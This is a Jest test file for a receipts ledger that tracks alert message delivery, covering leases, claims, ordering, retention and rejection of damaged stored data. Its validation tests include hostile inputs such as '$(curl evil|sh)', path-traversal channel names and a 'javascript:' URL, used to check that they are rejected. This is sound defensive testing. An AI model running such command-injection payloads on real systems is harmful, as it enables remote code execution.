import { expect, test } from '@jest/globals'
import { alert } from '../delivery/bed.fixture.ts'
import type { Json } from '../json.ts'
import type { Place, Receipt, Receipts } from '../receipt.ts'
import { bookOf, settle } from './book.ts'
import { type Documents, receiptsIn } from './documents.ts'
import { memoryDocuments, memoryReceipts } from './memory.fixture.ts'
import { noReceipts } from './none.ts'
import { bookKey, receiptsOver } from './over.ts'

/** Applies every change twice and throws the first away, as a store does when another writer was faster. */
function contested(documents: Documents): Documents {
  return {
    read: documents.read,
    async update(key, fn) {
      fn(await documents.read(key))
      return documents.update(key, fn)
    }
  }
}

const stores: [name: string, open: () => Promise<Receipts>][] = [
  ['memory', async () => memoryReceipts()],
  ['a contested ledger', () => receiptsIn(contested(memoryDocuments()))]
]

const receipt = (changes: Partial<Receipt> = {}): Receipt => ({
  id: 'id-1',
  alertKey: 'ci/main',
  transition: 'firing',
  channel: 'alerts',
  outcome: 'delivered',
  attempts: 1,
  at: '2026-01-05T09:00:00.000Z',
  ...changes
})
const content = { alert: alert(), mentions: ['@here'], ping: true, style: { layout: 'embed' } }
const now = Date.UTC(2026, 0, 5, 9)
const lease = { now, until: now + 60_000 }

test.each(stores)('%s: an alert nobody heard of has no receipts', async (_, open) => {
  const receipts = await open()
  expect([await receipts.find('ci/main', 'alerts'), await receipts.pending('alerts')]).toEqual([undefined, []])
})

test.each(stores)('%s: the newest receipt with a remote is found, for its alert and channel alone', async (_, open) => {
  const receipts = await open()
  await receipts.save(receipt({ id: '1', remote: { id: '1' } }))
  await receipts.save(receipt({ id: '2', remote: { id: '2' } }))
  await receipts.save(receipt({ id: '3' }))
  await receipts.save(receipt({ id: '4', channel: 'deploys', remote: { id: '3' } }))
  await receipts.save(receipt({ id: '5', alertKey: 'ci/dev', remote: { id: '4' } }))

  expect((await receipts.find('ci/main', 'alerts'))?.remote).toEqual({ id: '2' })
})

test.each(stores)('%s: what is shown or waits to be is known', async (_, open) => {
  const receipts = await open()
  await receipts.save(receipt({ id: '1', alertKey: 'shown', remote: { id: '7' } }))
  await receipts.save(receipt({ id: '2', alertKey: 'waiting', outcome: 'pending' }), content)
  await receipts.save(receipt({ id: '3', alertKey: 'lost', outcome: 'lost' }))
  const known = (channel: string) => Promise.all(['shown', 'waiting', 'lost', 'other'].map((key) => receipts.knows(key, channel)))
  expect([await known('alerts'), await known('deploys')]).toEqual([
    [true, true, false, false],
    [false, false, false, false]
  ])
})

const places: [before: Place, known: boolean][] = [
  [{ transition: 'firing' }, false],
  [{ transition: 'firing', order: 8 }, false],
  [{ transition: 'resolved' }, true],
  [{ transition: 'resolved', order: 8 }, true],
  [{ transition: 'earlier', order: 6 }, false]
]
test.each(places)('before %j what is shown by the seventh transition is known: %s', async (before, known) => {
  for (const [, open] of stores) {
    const receipts = await open()
    await receipts.save(receipt({ id: '1', alertKey: 'shown', order: 7, remote: { id: '7' } }))
    await receipts.save(receipt({ id: '2', alertKey: 'waiting', order: 7, outcome: 'pending' }), content)
    for (const key of ['shown', 'waiting']) expect(await receipts.knows(key, 'alerts', before)).toBe(known)
  }
})

test('whether an alert is known costs one read', async () => {
  const documents = memoryDocuments()
  let reads = 0
  const counted = receiptsOver({ ...documents, read: (key) => documents.read(key).finally(() => reads++) })
  await counted.knows('ci/main', 'alerts')
  expect(reads).toBe(1)
})

test.each(stores)('%s: what is pending comes back whole and in order, until it is settled', async (_, open) => {
  const receipts = await open()
  await receipts.save(receipt({ id: '1', outcome: 'pending' }), content)
  await receipts.save(receipt({ id: '2', outcome: 'pending', alertKey: 'ci/dev' }), content)
  await receipts.save(receipt({ id: '3', outcome: 'pending', channel: 'deploys' }), content)

  const [first, ...rest] = await receipts.pending('alerts')
  expect(first).toEqual({ receipt: receipt({ id: '1', outcome: 'pending' }), ...content })
  expect(rest.map((one) => one.receipt.id)).toEqual(['2'])

  await receipts.save(receipt({ id: '1', at: '2026-01-05T09:01:00.000Z' }))
  expect((await receipts.pending('alerts')).map((one) => one.receipt.id)).toEqual(['2'])
})

test.each(stores)('%s: a transition that is tried again keeps its place and the time since when it waits', async (_, open) => {
  const receipts = await open()
  await receipts.save(receipt({ id: '1', outcome: 'pending' }), content)
  await receipts.save(receipt({ id: '2', outcome: 'pending' }), content)
  await receipts.save(receipt({ id: '1', outcome: 'pending', attempts: 7, at: '2026-01-06T00:00:00.000Z' }), content)

  expect((await receipts.pending('alerts')).map((one) => [one.receipt.id, one.receipt.attempts, one.receipt.at.slice(0, 10)])).toEqual([
    ['1', 7, '2026-01-05'],
    ['2', 1, '2026-01-05']
  ])
})

test.each(stores)('%s: a claim is held until its lease ends, and is not lost with the run that took it', async (_, open) => {
  const receipts = await open()
  const claimed = receipt({ outcome: 'pending', attempts: 0 })

  expect(await receipts.claim(claimed, content, lease)).toEqual({ kind: 'mine' })
  expect(await receipts.claim(claimed, content, { now: now + 1, until: now + 60_001 })).toEqual({ kind: 'held' })
  expect((await receipts.pending('alerts')).map((one) => one.receipt.id)).toEqual(['id-1'])
  expect(await receipts.claim(claimed, content, { now: now + 60_000, until: now + 120_000 })).toEqual({ kind: 'mine' })
})

test.each(stores)('%s: of eight runs that want one transition, one gets it', async (_, open) => {
  const receipts = await open()
  const claims = await Promise.all(Array.from({ length: 8 }, () => receipts.claim(receipt({ outcome: 'pending' }), content, lease)))

  expect(claims.filter(({ kind }) => kind === 'mine')).toHaveLength(1)
  expect(claims.filter(({ kind }) => kind === 'held')).toHaveLength(7)
})

test.each(stores)('%s: while the first message of an alert is on its way, its other transitions wait, and only those', async (_, open) => {
  const receipts = await open()
  const wanted = (id: string, changes: Partial<Receipt> = {}) => receipt({ id, outcome: 'pending', attempts: 0, ...changes })
  await receipts.claim(wanted('1'), content, lease)

  const soon = { now: now + 1, until: now + 60_001 }
  expect(await receipts.claim(wanted('2'), content, soon)).toEqual({ kind: 'busy', until: lease.until })
  expect(await receipts.claim(wanted('2'), content, { ...soon, again: true })).toEqual({ kind: 'busy', until: lease.until })
  expect(await receipts.claim(wanted('other', { alertKey: 'ci/dev' }), content, soon)).toEqual({ kind: 'mine' })
  expect((await receipts.pending('alerts')).map((one) => one.receipt.id)).toEqual(['1', '2', 'other'])

  await receipts.save(receipt({ id: '1', remote: { id: '7' } }))
  expect(await receipts.claim(wanted('2'), content, { ...soon, again: true })).toEqual({ kind: 'mine', remote: { id: '7' } })
})

test.each(stores)('%s: an edit waits for another edit for 15 s, also for one of a message that the caller names', async (_, open) => {
  const receipts = await open()
  const wanted = (id: string) => receipt({ id, outcome: 'pending', remote: { id: '7' } })
  await receipts.claim(wanted('1'), content, lease)

  expect(await receipts.claim(wanted('2'), content, { now: now + 1, until: now + 60_001 })).toEqual({ kind: 'busy', until: now + 15_000 })
  expect(await receipts.claim(wanted('2'), content, { now: now + 15_000, until: now + 75_000 })).toEqual({ kind: 'mine' })
})

test.each(stores)('%s: what got through leaves the older ones of its alert nothing to tell, whoever is at them', async (_, open) => {
  const receipts = await open()
  const pending = (id: string, alertKey = 'ci/main') => receipt({ id, alertKey, outcome: 'pending' })
  for (const one of [pending('older'), pending('other', 'ci/dev'), pending('told'), pending('newer')]) await receipts.save(one, content)
  await receipts.claim(pending('older'), content, lease)
  await receipts.save(receipt({ id: 'told', remote: { id: '7' } }))

  expect((await receipts.pending('alerts')).map((one) => one.receipt.id)).toEqual(['other', 'newer'])
  for (const late of [pending('older'), receipt({ id: 'older', outcome: 'lost' }), pending('told')]) await receipts.save(late, content)
  expect((await receipts.pending('alerts')).map((one) => one.receipt.id)).toEqual(['other', 'newer'])
  expect(await receipts.claim(pending('older'), content, lease)).toMatchObject({
    kind: 'done',
    receipt: { outcome: 'skipped', detail: 'a newer message of this alert got through' }
  })
})

test.each(stores)('%s: a run that was slow takes back nothing of what another one told meanwhile', async (_, open) => {
  const receipts = await open()
  await receipts.save(receipt({ remote: { id: '7' } }))
  await receipts.save(receipt({ outcome: 'skipped' }))
  await receipts.save(receipt({ outcome: 'lost' }))
  expect(await receipts.find('ci/main', 'alerts')).toEqual(receipt({ remote: { id: '7' } }))
})

test.each([1e300, now + 2 * 3_600_000, `${now + 1}`, null])(
  'a lease until %j is none: nobody holds an alert for so long',
  async (until) => {
    const documents = memoryDocuments()
    const held = JSON.stringify({ entries: [{ receipt: receipt({ id: 'other' }), ...content, until }] })
    await documents.update(bookKey('alerts'), () => JSON.parse(held))

    expect(await receiptsOver(documents).claim(receipt({ outcome: 'pending' }), content, lease)).toEqual({ kind: 'mine' })
  }
)

test.each(stores)('%s: what was delivered is done for ever and leaves nothing to send', async (_, open) => {
  const receipts = await open()
  const told = receipt({ remote: { id: '7' }, at: '2026-01-05T09:00:02.000Z' })
  await receipts.claim(receipt({ outcome: 'pending' }), content, lease)
  await receipts.save(told)

  const later = { now: now + 3_600_000, until: now + 3_660_000 }
  expect(await receipts.claim(receipt({ outcome: 'pending', at: '2026-01-05T10:00:00.000Z' }), content, later)).toEqual({
    kind: 'done',
    receipt: told
  })
  expect(await receipts.pending('alerts')).toEqual([])
})

test.each(stores)('%s: a pending transition that is put back can be claimed at once', async (_, open) => {
  const receipts = await open()
  await receipts.claim(receipt({ outcome: 'pending' }), content, lease)
  await receipts.save(receipt({ outcome: 'pending', reason: 'server' }), content)

  expect(await receipts.claim(receipt({ outcome: 'pending' }), content, lease)).toEqual({ kind: 'mine' })
})

test.each(stores)('%s: a lost transition may be sent again, and is pending again if that run dies', async (_, open) => {
  const receipts = await open()
  await receipts.claim(receipt({ outcome: 'pending' }), content, lease)
  await receipts.save(receipt({ outcome: 'lost', at: '2026-01-05T09:00:01.000Z' }))
  expect(await receipts.pending('alerts')).toEqual([])

  const later = { now: now + 120_000, until: now + 180_000 }
  expect(await receipts.claim(receipt({ outcome: 'pending', at: '2026-01-05T09:02:00.000Z' }), content, later)).toEqual({ kind: 'mine' })
  expect((await receipts.pending('alerts')).map((one) => one.receipt.id)).toEqual(['id-1'])
})

test.each(stores)('%s: a claim names the message to edit', async (_, open) => {
  const receipts = await open()
  await receipts.save(receipt({ id: 'earlier', remote: { id: '7' } }))

  expect(await receipts.claim(receipt({ outcome: 'pending' }), content, lease)).toEqual({ kind: 'mine', remote: { id: '7' } })
})

test('without a ledger every transition is new, and nothing stays behind', async () => {
  await noReceipts.save(receipt({ outcome: 'pending', remote: { id: '7' } }), content)
  expect([await noReceipts.find('ci/main', 'alerts'), await noReceipts.pending('alerts')]).toEqual([undefined, []])
  expect(await noReceipts.knows('ci/main', 'alerts')).toBe(false)
  expect(await noReceipts.claim(receipt(), content, lease)).toEqual({ kind: 'mine' })
})

/** What is left of receipts settled one after the other. */
const keptOf = (settled: readonly Receipt[]) => settled.reduce(settle, bookOf(undefined, 'alerts')).receipts.map(({ id }) => id)

const many = (count: number, alertKey: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => receipt({ id: `${index}`, alertKey: alertKey(index) }))

test('a book holds 50 receipts of an alert, 1000 in all, and none older than 90 days', () => {
  const ofOne = keptOf(many(60, () => 'ci/main'))
  const ofAll = keptOf(many(1003, (index) => `ci/${index}`))
  const recent = keptOf([...many(3, () => 'ci/main'), receipt({ id: 'new', at: '2026-04-06T09:00:00.000Z' })])

  expect([ofOne.length, ofOne[0], ofAll.length, ofAll[0], recent]).toEqual([50, '10', 1000, '3', ['new']])
})

test.each([
  ['alerts', /^receipts\/alerts-[0-9a-f]{12}$/],
  ['On-Call / Ünïcode!', /^receipts\/on-call-n-code-[0-9a-f]{12}$/],
  ['../../etc', /^receipts\/etc-[0-9a-f]{12}$/],
  ['💥', /^receipts\/receipt-[0-9a-f]{12}$/],
  ['x'.repeat(300), /^receipts\/x{40}-[0-9a-f]{12}$/]
])('the document of channel %j can be a file', (channel, expected) => {
  expect(bookKey(channel)).toMatch(expected)
})

test.each([
  null,
  7,
  'text',
  [],
  {},
  { entries: 7, receipts: 'x' },
  { entries: [null, {}, { receipt: {} }], receipts: [null, 7, { id: 1 }] }
])('a damaged document %j is read as empty', async (damaged) => {
  const documents = memoryDocuments()
  await documents.update(bookKey('alerts'), () => damaged)
  const receipts = receiptsOver(documents)

  expect([await receipts.find('ci/main', 'alerts'), await receipts.pending('alerts')]).toEqual([undefined, []])
  expect(await receipts.claim(receipt({ outcome: 'pending' }), content, lease)).toEqual({ kind: 'mine' })
})

test.each([
  ...[null, 'x', {}, { id: 7 }, { id: '' }, { id: '.' }, { id: '..' }, { id: '1', thread: {} }],
  ...[
    { id: '$(curl evil|sh)' },
    { id: '1\n2' },
    { id: '1/2' },
    { id: '1'.repeat(21) },
    { id: '1', channel: '../8' },
    { id: '1', thread: '9?x' }
  ],
  ...[
    { id: '1', url: 'javascript:alert(1)' },
    { id: '1', url: 'https://me@host/issues/9' },
    { id: '1', url: '' }
  ]
])('a receipt of a message that cannot be %j is no receipt, and a new message is sent', async (remote) => {
  const documents = memoryDocuments()
  const damaged = { ...receipt({ outcome: 'delivered' }), remote }
  const book = JSON.stringify({ receipts: [damaged], entries: [{ receipt: damaged, ...content }] })
  await documents.update(bookKey('alerts'), () => JSON.parse(book))
  const receipts = receiptsOver(documents)

  expect(await receipts.pending('alerts')).toEqual([])
  expect(await receipts.claim(receipt({ outcome: 'pending' }), content, lease)).toEqual({ kind: 'mine' })
})

test.each(stores)('%s: what comes too late is not told, whoever asked first', async (_, open) => {
  const receipts = await open()
  const pending = (id: string, order: number) => receipt({ id, order, outcome: 'pending' })
  await receipts.save(pending('5', 5), content)
  await receipts.save(pending('7', 7), content)
  await receipts.save(pending('6', 6), content)
  await receipts.save(receipt({ id: '6', order: 6, remote: { id: '8' } }))

  expect((await receipts.pending('alerts')).map(({ receipt: { id } }) => id)).toEqual(['7'])
  const late = await receipts.claim(pending('4', 4), content, lease)
  expect(late).toMatchObject({
    kind: 'done',
    receipt: { id: '4', outcome: 'skipped', detail: 'a newer message of this alert got through' }
  })
  expect(await receipts.claim(pending('7', 7), content, lease)).toEqual({ kind: 'mine', remote: { id: '8' } })
  expect(await receipts.claim(receipt({ id: 'none', outcome: 'pending' }), content, { now, until: now + 1 })).toMatchObject({
    kind: 'busy'
  })
})

test('any ledger with compare-and-swap will do', async () => {
  interface Ledger {
    read(key: string): Promise<Json | undefined>
    update(key: string, fn: (current: Json | undefined) => Json): Promise<Json>
  }
  let text: string | undefined
  const ledger: Ledger = {
    read: async () => text && JSON.parse(text),
    async update(_, fn) {
      text = JSON.stringify(fn(text && JSON.parse(text)))
      return JSON.parse(text)
    }
  }

  await receiptsOver(ledger).save(receipt({ outcome: 'pending' }), content)

  expect(await receiptsOver(ledger).pending('alerts')).toMatchObject([{ receipt: { id: 'id-1' }, ...content }])
})

test('what is dated ahead by more than clocks differ is none', async () => {
  const documents = memoryDocuments()
  const ahead = (ms: number) => new Date(now + ms).toISOString()
  const soon = receipt({ id: 'soon', at: ahead(60_000), remote: { id: '1' } })
  const planted = receipt({ id: 'planted', at: ahead(2 * 3_600_000), remote: { id: '2' } })
  const pending = { receipt: receipt({ id: 'pending', outcome: 'pending', at: '9999-12-31T23:59:59Z' }), ...content }
  await documents.update(bookKey('alerts'), () => JSON.parse(JSON.stringify({ receipts: [soon, planted], entries: [pending] })))
  const receipts = receiptsOver(documents, () => now)
  expect([(await receipts.find('ci/main', 'alerts'))?.id, await receipts.pending('alerts')]).toEqual(['soon', []])
})

test.each([Number.MAX_SAFE_INTEGER, 10_000])('no message comes too late for a receipt whose place is %d', async (order) => {
  const receipts = receiptsOver(memoryDocuments())
  await receipts.save(receipt({ id: 'planted', order, remote: { id: '1' } }))
  expect(await receipts.claim(receipt({ id: 'next', order: 7, outcome: 'pending' }), content, lease)).toMatchObject({ kind: 'mine' })
})

const entry = { receipt: receipt({ outcome: 'pending' }), ...content }
const changed = (alert: object) => ({ ...entry, alert: { ...content.alert, ...alert } })
const { style: _, ...plain } = entry
test.each([
  ['an entry', entry, 1],
  ['one without a style', plain, 1],
  ['one of another channel', { ...entry, receipt: receipt({ outcome: 'pending', channel: '../../evil' }) }, 0],
  ['a style that is none', { ...entry, style: null }, 0],
  ['a severity that nobody knows', changed({ severity: 'constructor' }), 0],
  ['a title that is no text', changed({ title: 5 }), 0],
  ['a summary that is no list', changed({ summary: 'hello' }), 0],
  ['a mention that is no word', { ...entry, mentions: [{}] }, 0],
  ['an alert that is a list', { ...entry, alert: [] }, 0]
])('of a document that somebody else wrote, %s', (_, written, kept) => {
  expect(bookOf({ entries: [written] }, 'alerts').entries).toHaveLength(kept)
})

test('a receipt of another channel is not one of this channel', () => {
  const receipts = [receipt(), receipt({ channel: 'deploys', remote: { id: '7' } })]
  expect(bookOf({ receipts }, 'alerts').receipts).toEqual([receipt()])
})

test.each([
  { order: 1e308 },
  { order: 0.5 },
  { order: 'last' },
  { attempts: 1e308 },
  { attempts: -1 },
  { attempts: 'many' },
  { attempts: {} }
])('a receipt with %j is none', (damage) => {
  expect(bookOf({ receipts: [{ ...receipt(), ...damage }] }, 'alerts').receipts).toEqual([])
})

test('of what somebody else wrote no more is read than we would write', () => {
  const written = {
    receipts: Array(5_000).fill(receipt()),
    entries: Array(5_000).fill({ receipt: receipt({ outcome: 'pending' }), ...content })
  }
  const { receipts, entries } = bookOf(written, 'alerts')
  expect([receipts.length, entries.length]).toEqual([1000, 500])
})
